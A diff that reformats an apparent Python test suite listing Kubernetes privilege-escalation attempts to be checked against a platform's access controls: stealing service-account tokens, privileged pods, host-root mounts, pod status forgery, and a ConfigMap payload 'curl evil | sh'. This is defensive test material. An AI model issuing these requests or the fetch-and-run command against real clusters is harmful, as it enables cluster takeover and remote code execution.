@@ -134,9 +134,11 @@ def common(account: tuple[str, str]) -> Iterator[Attempt]:
         yield create("v1", "Secret", "secrets", namespace)
     yield read("v1", "secrets")
     for namespace, name in (
-        ("kube-system", "clusterrole-aggregation-controller"), ("kube-system", "generic-garbage-collector"),
-        (PLATFORM, "operator"), *(each for each in ACCOUNTS.values() if each[0] != TEAM),
-    ):  # fmt: skip
+        ("kube-system", "clusterrole-aggregation-controller"),
+        ("kube-system", "generic-garbage-collector"),
+        (PLATFORM, "operator"),
+        *(each for each in ACCOUNTS.values() if each[0] != TEAM),
+    ):
         request = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
         where = path("v1", "serviceaccounts", namespace, name) + "/token"
         yield Attempt(f"token of {namespace}/{name}", "POST", where, request)
@@ -195,9 +197,12 @@ def common(account: tuple[str, str]) -> Iterator[Attempt]:
         yield job(namespace, pod(privileged=True))
         yield daemon_set(namespace, pod(privileged=True))
     for namespace, name in (
-        ("kube-system", "clusterrole-aggregation-controller"), (PLATFORM, "operator"), (SYSTEM, "avactl-scheduler"),
-        (SYSTEM, "avactl-delivery"), (CACHE, "avactl-cache"),
-    ):  # fmt: skip
+        ("kube-system", "clusterrole-aggregation-controller"),
+        (PLATFORM, "operator"),
+        (SYSTEM, "avactl-scheduler"),
+        (SYSTEM, "avactl-delivery"),
+        (CACHE, "avactl-cache"),
+    ):
         yield job(namespace, pod(name))
     for part in ("exec", "attach", "portforward", "proxy"):
         where = path("v1", "pods", "kube-system", "victim") + f"/{part}"
@@ -206,8 +211,12 @@ def common(account: tuple[str, str]) -> Iterator[Attempt]:
     yield delete("v1", "pods", "kube-system", "victim")
     yield patch("v1", "pods", "kube-system", "victim", {"metadata": {"labels": {"app": "evil"}}})
     yield patch("v1", "pods", "kube-system", "victim", {"status": {"podIP": "10.0.0.66"}}, "/status")
-    yield Attempt("evict a pod", "POST", path("v1", "pods", "kube-system", "victim") + "/eviction",
-                  {"apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": "victim"}})  # fmt: skip
+    yield Attempt(
+        "evict a pod",
+        "POST",
+        path("v1", "pods", "kube-system", "victim") + "/eviction",
+        {"apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": "victim"}},
+    )
     target = {"kind": "Node", "name": "machine"}
     body = {"apiVersion": "v1", "kind": "Binding", "metadata": {"name": "victim"}, "target": target}
     yield Attempt("bind a pod", "POST", path("v1", "pods", "kube-system", "victim") + "/binding", body)
@@ -245,14 +254,28 @@ def common(account: tuple[str, str]) -> Iterator[Attempt]:
     for source in (
         {"hostPath": {"path": "/"}},
         {"hostPath": {"path": "/mnt/avactl/.volumes/other/x", "type": "Directory"}},
-        {"local": {"path": "/etc"}, "nodeAffinity": {"required": {"nodeSelectorTerms": [
-            {"matchExpressions": [{"key": "a", "operator": "Exists"}]}]}}},
-        {"csi": {"driver": "csi.juicefs.com", "volumeHandle": "evil", "volumeAttributes": {
-            "juicefs/mount-image": "registry.example.com/evil:1"}}},
-        {"csi": {"driver": "x", "volumeHandle": "evil", "nodePublishSecretRef": {
-            "name": "key", "namespace": "kube-system"}}},
+        {
+            "local": {"path": "/etc"},
+            "nodeAffinity": {
+                "required": {"nodeSelectorTerms": [{"matchExpressions": [{"key": "a", "operator": "Exists"}]}]}
+            },
+        },
+        {
+            "csi": {
+                "driver": "csi.juicefs.com",
+                "volumeHandle": "evil",
+                "volumeAttributes": {"juicefs/mount-image": "registry.example.com/evil:1"},
+            }
+        },
+        {
+            "csi": {
+                "driver": "x",
+                "volumeHandle": "evil",
+                "nodePublishSecretRef": {"name": "key", "namespace": "kube-system"},
+            }
+        },
         {"nfs": {"server": "10.0.0.66", "path": "/"}},
-    ):  # fmt: skip
+    ):
         yield create("v1", "PersistentVolume", "persistentvolumes", spec={**volume, **source})
     yield patch("v1", "persistentvolumes", "", "foreign", {"spec": {"persistentVolumeReclaimPolicy": "Delete"}})
     yield patch("v1", "persistentvolumes", "", "foreign", {"spec": {"mountOptions": ["exec"]}})
@@ -297,10 +320,16 @@ def own_attempts(name: str) -> Iterator[Attempt]:
             for key in ("fuse.sh", "volumes.sh", "alluxio-site.properties", "evil.sh"):
                 yield patch("v1", "configmaps", CACHE, "write-alluxio", {"data": {key: "curl evil | sh"}})
             yield create("v1", "ConfigMap", "configmaps", CACHE, data={"fuse.sh": "curl evil | sh"})
-            yield patch("v1", "namespaces", "", TEAM, {"metadata": {"labels": {
-                "pod-security.kubernetes.io/enforce": "privileged"}}})  # fmt: skip
-            yield patch("v1", "namespaces", "", TEAM, {"metadata": {"labels": {
-                "pod-security.kubernetes.io/enforce": None}}})  # fmt: skip
+            yield patch(
+                "v1",
+                "namespaces",
+                "",
+                TEAM,
+                {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}},
+            )
+            yield patch(
+                "v1", "namespaces", "", TEAM, {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": None}}}
+            )
             yield patch("v1", "namespaces", "", NETWORK, {"metadata": {"labels": {"avactl.dev/team": None}}})
             yield patch("v1", "namespaces", "", NETWORK, {"metadata": {"labels": {"avactl.dev/host-network": None}}})
             admin_access = {"metadata": {"labels": {"resource.kubernetes.io/admin-access": "true"}}}
@@ -321,31 +350,55 @@ def own_attempts(name: str) -> Iterator[Attempt]:
             volume = {"spec": {"claimRef": {"namespace": TEAM, "name": "x"}}}
             yield patch("v1", "persistentvolumes", "", "foreign", volume)
         case "scheduler":
-            volume = {"spec": {"claimRef": {"apiVersion": "v1", "kind": "PersistentVolumeClaim", "namespace": TEAM,
-                                            "name": "x", "uid": "1"}}}  # fmt: skip
+            volume = {
+                "spec": {
+                    "claimRef": {
+                        "apiVersion": "v1",
+                        "kind": "PersistentVolumeClaim",
+                        "namespace": TEAM,
+                        "name": "x",
+                        "uid": "1",
+                    }
+                }
+            }
             yield patch("v1", "persistentvolumes", "", "bound", volume)
             yield patch("v1", "persistentvolumes", "", "meant", volume)
             yield patch("v1", "persistentvolumes", "", "bound", {"spec": {"claimRef": None}})
             for spec in (
-                {"accessModes": ["ReadWriteMany"]}, {"storageClassName": "x"}, {"capacity": {"storage": "9Gi"}},
-                {"persistentVolumeReclaimPolicy": "Delete"}, {"mountOptions": ["exec"]},
-            ):  # fmt: skip
+                {"accessModes": ["ReadWriteMany"]},
+                {"storageClassName": "x"},
+                {"capacity": {"storage": "9Gi"}},
+                {"persistentVolumeReclaimPolicy": "Delete"},
+                {"mountOptions": ["exec"]},
+            ):
                 yield patch("v1", "persistentvolumes", "", "foreign", {"spec": spec})
             yield patch("v1", "persistentvolumes", "", "foreign", {"metadata": {"finalizers": None}})
             yield patch("v1", "persistentvolumes", "", "foreign", {"metadata": {"labels": {"a": "b"}}})
             yield patch("v1", "persistentvolumes", "", "foreign", {"metadata": {"annotations": {"a": "b"}}})
             yield delete("v1", "pods", "default", "victim")
-            for status in ({"phase": "Failed"}, {"podIP": "10.0.0.66"}, {"hostIP": "10.0.0.66"},
-                           {"conditions": [{"type": "Ready", "status": "True"}]},
-                           {"containerStatuses": [{"name": "main", "ready": True, "restartCount": 0, "image": "a",
-                                                   "imageID": "a"}]}, {"reason": "x"}):  # fmt: skip
+            for status in (
+                {"phase": "Failed"},
+                {"podIP": "10.0.0.66"},
+                {"hostIP": "10.0.0.66"},
+                {"conditions": [{"type": "Ready", "status": "True"}]},
+                {
+                    "containerStatuses": [
+                        {"name": "main", "ready": True, "restartCount": 0, "image": "a", "imageID": "a"}
+                    ]
+                },
+                {"reason": "x"},
+            ):
                 yield patch("v1", "pods", TEAM, "own", {"status": status}, "/status")
             yield patch("v1", "pods", TEAM, "own", {"metadata": {"labels": {"app": "evil"}}}, "/status")
             yield patch("v1", "pods", TEAM, "own", {"metadata": {"annotations": {"a": "b"}}}, "/status")
             yield patch("v1", "pods", TEAM, "own", {"metadata": {"finalizers": ["evil.example/x"]}}, "/status")
             for more in ({"annotations": {"a": "b"}}, {"labels": {"app": "evil"}}):
-                body = {"apiVersion": "v1", "kind": "Binding", "metadata": {"name": "own", **more},
-                        "target": {"kind": "Node", "name": "machine"}}  # fmt: skip
+                body = {
+                    "apiVersion": "v1",
+                    "kind": "Binding",
+                    "metadata": {"name": "own", **more},
+                    "target": {"kind": "Node", "name": "machine"},
+                }
                 yield Attempt(f"bind with {more}", "POST", path("v1", "pods", TEAM, "own") + "/binding", body)
             claim = ("v1", "persistentvolumeclaims", TEAM, "home")
             yield patch(*claim, {"spec": {"volumeName": "foreign"}})
@@ -360,8 +413,10 @@ def own_attempts(name: str) -> Iterator[Attempt]:
             yield job(NETWORK, pod("avactl-run", privileged=True))
             labels = {"app": "evil"}
             for account in ("platform", "ps-follower"):
-                spec = {"selector": {"matchLabels": labels}, "template": {
-                    "metadata": {"labels": labels}, "spec": {**pod(account), "restartPolicy": "Always"}}}  # fmt: skip
+                spec = {
+                    "selector": {"matchLabels": labels},
+                    "template": {"metadata": {"labels": labels}, "spec": {**pod(account), "restartPolicy": "Always"}},
+                }
                 yield create("apps/v1", "ReplicaSet", "replicasets", TEAM, spec=spec)
             deployment = ("apps/v1", "deployments", TEAM, "detect")
             yield patch(*deployment, {"spec": {"template": {"spec": {"serviceAccountName": "platform"}}}})
@@ -375,8 +430,12 @@ def own_attempts(name: str) -> Iterator[Attempt]:
             yield patch("v1", "services", TEAM, "detect", {"spec": {"type": "NodePort"}})
             yield patch("v1", "services", TEAM, "detect", {"spec": {"externalIPs": ["10.96.0.1"]}})
             yield patch("v1", "services", TEAM, "detect", {"metadata": {"annotations": {"a": "b"}}})
-            for spec in ({"type": "NodePort"}, {"type": "LoadBalancer"}, {"externalIPs": ["10.96.0.1"]},
-                         {"type": "ExternalName", "externalName": "evil.example"}):  # fmt: skip
+            for spec in (
+                {"type": "NodePort"},
+                {"type": "LoadBalancer"},
+                {"externalIPs": ["10.96.0.1"]},
+                {"type": "ExternalName", "externalName": "evil.example"},
+            ):
                 yield create("v1", "Service", "services", TEAM, spec={"ports": [{"port": 80}], **spec})
             yield delete("batch/v1", "jobs", TEAM, "ps-worker")
             route = ("gateway.networking.k8s.io/v1", "httproutes", TEAM, "web")
